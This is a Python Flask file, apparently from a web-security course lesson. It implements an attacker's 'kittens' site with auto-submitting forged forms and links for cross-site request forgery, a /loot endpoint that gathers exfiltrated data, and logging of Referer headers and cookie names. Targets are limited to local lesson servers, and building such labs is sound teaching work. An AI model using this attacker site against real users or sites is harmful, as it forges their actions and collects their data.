"""Lesson 10: the attacker's website: it shows kittens, and makes the visitor's browser send a request.

It has no flaw and uses none. It only asks the visitor's browser to do what any page may ask for.
"""

from flask import Flask, Response, request
from flask.typing import ResponseReturnValue

from .page_scripts import FOLLOW, SUBMIT


class Kittens(Flask):
    """The attacker's site, with its loot.

    Attributes:
        loot: data that injected scripts have sent here.
        referers: the Referer of each visit to /recipes, or "" if there was none.
        cookies: the names of the cookies that came with visits to /form.
    """

    loot: list[str]
    referers: list[str]
    cookies: list[list[str]]


def kittens_app() -> Kittens:
    """Make the service.

    GET /form?at=… has a form to POST to that address, GET /link?at=… a link to it; a script submits or follows it.
    With `policy=…`, the page has that Referrer-Policy. GET /recipes is a harmless page. POST /loot takes anything.
    """
    app = Kittens(__name__)
    app.loot, app.referers, app.cookies = [], [], []

    @app.get("/form")
    def form() -> ResponseReturnValue:
        app.cookies.append(sorted(request.cookies))
        return page(f'<form method=post action="{aim()}"><input name=to value=mallory></form><script>{SUBMIT}</script>')

    @app.get("/link")
    def link() -> ResponseReturnValue:
        return page(f'<a href="{aim()}">kittens!</a><script>{FOLLOW}</script>')

    @app.get("/recipes")
    def recipes() -> ResponseReturnValue:
        app.referers.append(request.headers.get("Referer", ""))
        return page("<p id=status>soup</p>", ready=True)

    @app.post("/loot")
    def take() -> ResponseReturnValue:
        app.loot.append(request.get_data(as_text=True))
        return "", 204

    def aim() -> str:
        # Only addresses of this lesson's servers are allowed, because the page contains the address unescaped.
        at = request.args.get("at", "")
        return at if at.startswith("http://127.0.0.1:") and not set(at) & set("\"<>' ") else ""

    def page(body: str, ready: bool = False) -> Response:
        made = Response(f"<!doctype html><body{' data-ready' if ready else ''}>{body}</body>", mimetype="text/html")
        if policy := request.args.get("policy"):
            made.headers["Referrer-Policy"] = policy
        return made

    return app
